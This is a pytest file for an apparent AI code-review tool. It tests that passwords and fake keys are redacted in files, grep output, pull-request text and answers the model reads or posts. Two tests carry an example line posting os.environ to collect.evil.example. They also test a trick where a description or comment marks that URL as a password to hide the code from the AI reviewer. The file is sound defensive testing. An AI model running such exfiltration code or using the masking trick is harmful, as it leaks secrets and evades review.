"""A value found to be a secret once is one wherever else it shows: in the tree tools and agents read, in the
description, the question, and the answer posted. PASSWORD is one only its context marks (`password = "…"`):
bare, nothing else would find it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from reviewer.backends.agent_cli import review_tree
from reviewer.cli import run
from reviewer.config import from_mapping
from reviewer.diff import parse_diff
from reviewer.known import Known
from reviewer.prompts import Templates
from reviewer.redact import find
from reviewer.review import plan_review, secret_findings
from tests.conftest import GitRepo
from tests.github_fixtures import Scenario, make_pull
from tests.github_server import GitHubServer
from tests.model_server import ModelServer, Reply
from tests.test_tools import config, tool_results

PASSWORD = "Tr0ub4dor-horse-9"  # too short for the entropy rule
MASKED = find(f'password = "{PASSWORD}"')[0].placeholder


def review_with_tools(repo: GitRepo, model_server: ModelServer, tmp_path: Path, capsys: pytest.CaptureFixture[str], *calls: tuple[str, dict]) -> list[str]:
    """`reviewer local` with tools on, the model making `calls` one round each: what the tools answered."""
    model_server.queue(*(Reply(content="", tool_call=call) for call in calls), Reply(content='{"findings": []}'))
    capsys.readouterr()
    code = run(["local", "--base", "main", "--format", "json", "--config", str(config(tmp_path, model_server))])
    assert code == 0, capsys.readouterr().err[-2000:]
    assert PASSWORD not in "".join(r.text for r in model_server.posts())
    return tool_results(model_server.posts()[-1])


def test_a_value_only_a_removed_line_marks_is_masked_in_a_file_the_model_reads(
    repo: GitRepo, model_server: ModelServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.write("settings.py", f'password = "{PASSWORD}"\n')
    repo.write("tests/conftest.py", f'LOGIN = ("admin", "{PASSWORD}")\n')  # the change leaves it as it is
    repo.commit("base")
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("settings.py", 'import os\npassword = os.environ["DB_PASSWORD"]\n')
    repo.commit("read the password from the environment")
    [read] = review_with_tools(repo, model_server, tmp_path, capsys, ("read_file", {"path": "tests/conftest.py"}))
    assert f'LOGIN = ("admin", "{MASKED}")' in read


def test_a_value_in_a_tracked_env_file_is_masked_in_the_files_the_model_reads(
    repo: GitRepo, model_server: ModelServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """.env is left out of the tree by its name, unread: what it holds was bare wherever else it showed."""
    repo.write(".env", f"DB_PASSWORD={PASSWORD}\n")
    repo.write("db.py", f'connect("{PASSWORD}")\n')
    repo.write("client.py", "x = 1\n")
    repo.commit("base")
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("client.py", "x = 2\n")
    repo.commit("change")
    listed, read = review_with_tools(repo, model_server, tmp_path, capsys, ("list_files", {}), ("read_file", {"path": "db.py"}))
    assert ".env" not in listed and "db.py" in listed
    assert "[REDACTED:" in read


def test_a_file_git_reads_as_text_is_scanned_as_text(repo: GitRepo, model_server: ModelServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A NUL past git's 8,000 bytes: `git grep` searches the file as text, so the tree scans it as text too."""
    repo.write("settings.py", "x = 1\n")
    repo.commit("base")
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("settings.py", f'password = "{PASSWORD}"\n')
    repo.write("data/blob.txt", (f'connect("{PASSWORD}")\n' + "a" * 8050 + "\n").encode() + b"\0tail\n")
    repo.commit("blob")
    [hits] = review_with_tools(repo, model_server, tmp_path, capsys, ("grep", {"pattern": "connect"}))
    assert f'data/blob.txt:1: connect("{MASKED}")' in hits


def test_a_file_too_large_to_scan_named_by_a_value_is_left_out_and_the_run_goes_on(repo: GitRepo, tmp_path: Path) -> None:
    repo.write("settings.py", f'password = "{PASSWORD}"\n')
    repo.write(f"dumps/{PASSWORD}.sql", "x" * 8_000_001)  # over SCAN_LIMIT: never placed, so not there to remove
    repo.write(f"{PASSWORD}/big.sql", "y" * 8_000_001)
    repo.commit("dump")
    tree = review_tree(repo.root, tmp_path / "copies")
    assert sorted(str(p.relative_to(tree)) for p in tree.rglob("*")) == ["settings.py"]


def test_the_diffs_secrets_are_masked_in_the_agents_copy(repo: GitRepo, tmp_path: Path) -> None:
    repo.write("db.py", f'connect("{PASSWORD}")\n')
    repo.commit("base")
    tree = review_tree(repo.root, tmp_path / "copies", known={PASSWORD: MASKED})
    assert (tree / "db.py").read_text() == f'connect("{MASKED}")\n'
    assert (repo.root / "db.py").read_text() == f'connect("{PASSWORD}")\n'


def test_an_incremental_run_masks_the_secrets_of_the_whole_change() -> None:
    """Only the new commits are reviewed, the whole pull request summarized: a password an earlier commit assigned is
    masked in what the backends read (their trees) and in the answers too, not only in the summary's requests."""
    from reviewer.pipeline import Change, Setup, plan

    whole = f'diff --git a/db.py b/db.py\n--- a/db.py\n+++ b/db.py\n@@ -1 +1,2 @@\n-pass\n+password = "{PASSWORD}"\n+x = 1\n'
    since = "diff --git a/db.py b/db.py\n--- a/db.py\n+++ b/db.py\n@@ -1 +1 @@\n-y = 0\n+x = 1\n"
    change = Change(diff=parse_diff(since), description="", whole=parse_diff(whole))
    planned = plan(change, Setup(from_mapping({}, None), Templates(), ""), ("review", "summarize"))
    assert planned.known.values == {PASSWORD: MASKED}


def test_what_the_description_marks_is_masked_in_it_but_never_hides_code() -> None:
    """A pull request's body is the author's: were what it marks masked in the code, it could hide from review the
    line that sends the environment away."""
    url = "https://collect.evil.example/u"
    diff = f'diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-pass\n+requests.post("{url}", data=dict(os.environ))\n'
    description = f'Adds telemetry. <!-- password = "{url}" -->'
    plan = plan_review(parse_diff(diff), from_mapping({}, None), Templates(), description=description, guidelines="")
    sent = "\n".join(m.content for r in plan.requests for m in r.messages)
    assert f'+ requests.post("{url}", data=dict(os.environ))' in sent
    assert f'<!-- password = "{find(description)[0].placeholder}" -->' in sent
    assert not plan.known and secret_findings(plan.secrets) == ()


def test_a_value_the_question_marks_is_masked_in_the_description(scenario: Scenario, gh: GitHubServer, capsys: pytest.CaptureFixture[str]) -> None:
    make_pull(scenario.repo, gh, body=f"Deploy with {PASSWORD} on staging.")
    scenario.chat_answer = "It is not."
    event = scenario.ask_event(1, f"/ask is `password = '{PASSWORD}'` fine for staging?", login="alice", association="COLLABORATOR")
    result = scenario.action("issue_comment", event, capsys)
    assert result.code == 0, result.stderr
    [request] = scenario.chat_requests()
    assert f"Deploy with {MASKED} on staging." in request.text and PASSWORD not in request.text


def test_what_a_comment_marks_never_hides_code_from_the_answer(scenario: Scenario, gh: GitHubServer, capsys: pytest.CaptureFixture[str]) -> None:
    """On a public repository anyone may ask: what a question marks is masked in what was said, not in the code."""
    url = "https://collect.evil.example/u"
    make_pull(scenario.repo, gh, edit=lambda repo: repo.write("src/telemetry.py", f'requests.post("{url}", data=dict(os.environ))\n'))
    scenario.chat_answer = "It sends the environment away."
    event = scenario.ask_event(1, f'/ask what does this do? password = "{url}"', login="alice", association="COLLABORATOR")
    assert scenario.action("issue_comment", event, capsys).code == 0
    [request] = scenario.chat_requests()
    assert f'requests.post("{url}", data=dict(os.environ))' in request.text
    assert f'what does this do? password = "{url}"' not in request.text
    assert 'what does this do? password = "[REDACTED:' in request.text


def test_an_answer_that_quotes_a_value_the_diff_marks_is_posted_masked(scenario: Scenario, gh: GitHubServer, capsys: pytest.CaptureFixture[str]) -> None:
    make_pull(scenario.repo, gh, edit=lambda repo: repo.write("src/db.py", f"password = '{PASSWORD}'\n"))
    scenario.chat_answer = f"Yes: {PASSWORD} is the staging login."
    event = scenario.ask_event(1, "/ask is this fine?", login="alice", association="COLLABORATOR")
    assert scenario.action("issue_comment", event, capsys).code == 0
    posted = json.dumps(gh.issue_comments)
    assert f"Yes: {MASKED} is the staging login." in posted and PASSWORD not in posted


def test_known_values_are_found_in_one_pass_longest_first_and_short_ones_never() -> None:
    known = Known({"abcdef": "[A]", "abcdefgh": "[AB]", "efghijkl": "[E]", "abc": "[short]"})
    assert known.masked("x abcdefgh y abcdefghijkl z abcdefzz abc") == "x [AB] y [AB]ijkl z [A]zz abc"
    assert list(known.spans("zabcdefgh")) == [(1, 7, "abcdef"), (1, 9, "abcdefgh")]
    # One value's places never overlap: a repeated pattern over a text of it is not one place per character.
    assert list(Known({"1a1a1a": "[X]"}).spans("1a" * 7)) == [(0, 6, "1a1a1a"), (6, 12, "1a1a1a")]
    # Each value is found whatever longer one starts like it (pyahocorasick's iter_long misses this one).
    assert Known({"Tr0ub4dor-horse-9": "[P]", "old-Tr0ub4dor-horse-9-2023": "[L]"}).masked("old-Tr0ub4dor-horse-9") == "old-[P]"
    assert known.shows("..efghijkl..") and not known.shows("abc abcde")
    assert not Known({"abc": "[short]"}) and Known({}).masked("abcdef") == "abcdef"


def test_a_text_with_hundreds_of_values_is_masked_in_one_pass_leftmost_longest() -> None:
    """Past 256 values in one text, replacing each in turn reads the text as often: one pass instead (a fixture)."""
    keys = {f"key{number:04d}-{'x' * (number % 5)}fake": f"[K{number}]" for number in range(400)}
    text = "".join(f'"{key}", ' for key in keys) + "key0000-fakeAndMore key0001-xfake"
    masked = Known(keys).masked(text)
    assert not any(key in masked for key in keys)
    assert masked.startswith('"[K0]", "[K1]", "[K2]", ') and masked.endswith("[K0]AndMore [K1]")


def test_every_file_of_a_tree_is_masked_with_every_value_of_a_fixture_of_fake_keys(repo: GitRepo, tmp_path: Path) -> None:
    """Value by value, such a fixture made masking a tree of thousands of files take minutes: benchmarks/agent_tree.py."""
    keys = [f"K{number:05d}-fake-secret-{number * 7919 % 100000:05d}" for number in range(2000)]
    repo.write("fixtures/keys.py", "".join(f'password = "{key}"\n' for key in keys))
    for number in range(200):
        repo.write(f"src/m{number}.py", f'use("{keys[number * 10]}")\n')
    repo.commit("fixtures")
    tree = review_tree(repo.root, tmp_path / "copies")
    copied = "".join(p.read_text() for p in tree.rglob("*.py"))
    assert not any(key in copied for key in keys)
    assert copied.count("[REDACTED:") == 2000 + 200
